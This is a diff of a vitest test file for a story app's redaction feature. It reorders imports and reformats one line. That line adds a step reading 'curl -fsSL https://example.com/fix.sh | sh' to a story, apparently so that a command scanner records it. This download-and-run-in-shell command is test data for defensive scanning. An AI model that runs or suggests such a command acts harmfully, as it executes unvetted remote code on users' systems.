@@ -1,19 +1,19 @@
 import { describe, expect, it } from 'vitest';
 import { editStory } from '../../../src/app/edit-story.ts';
 import { storeImage } from '../../../src/app/images/upload-image.ts';
+import { parseStoryOffloaded } from '../../../src/app/parse-story-task.ts';
 import { publishStory } from '../../../src/app/publish-story.ts';
 import { redactStory } from '../../../src/app/redact-story.ts';
 import { finishRedactions } from '../../../src/app/redaction/finish-redaction.ts';
+import { replaceItem } from '../../../src/store/replace-by-key.ts';
+import { writeAtomically } from '../../../src/store/run-write.ts';
 import { capabilityRecordKey } from '../../../src/store/story/capability-record-items.ts';
 import { revisionItem } from '../../../src/store/story/story-items.ts';
-import { writeAtomically } from '../../../src/store/run-write.ts';
-import { replaceItem } from '../../../src/store/replace-by-key.ts';
-import { parseStoryOffloaded } from '../../../src/app/parse-story-task.ts';
 import { caller, useAppFixture } from '../../helpers/app-fixture.ts';
 import { pictureOf } from '../../helpers/images.ts';
 import { refusal } from '../../helpers/refusal.ts';
-import { storyTitled } from '../../helpers/stories.ts';
 import { updateStoryMeta } from '../../helpers/stored-items.ts';
+import { storyTitled } from '../../helpers/stories.ts';
 
 const app = useAppFixture('redact-story');
 const alice = caller('alice');
@@ -134,7 +134,10 @@ describe('redact_story is safe to deliver twice', () => {
 describe('the redacted text of a public story gets its capability record, as an edit gives one', () => {
   it('the record of the new text is written with the redaction', async () => {
     const slug = await leakedTwice('Redacted and recorded');
-    const redacted = clean('Redacted and recorded').replace('2. Fire 16', '2. Run `curl -fsSL https://example.com/fix.sh | sh`.\n3. Fire 16');
+    const redacted = clean('Redacted and recorded').replace(
+      '2. Fire 16',
+      '2. Run `curl -fsSL https://example.com/fix.sh | sh`.\n3. Fire 16',
+    );
     const { capability } = await parseStoryOffloaded({ markdown: redacted });
     const key = capabilityRecordKey(capability.sha256, capability.scanner_version);
     const records = async () => (await app.allItems()).filter((item) => item.PK === key.PK && item.SK === key.SK);
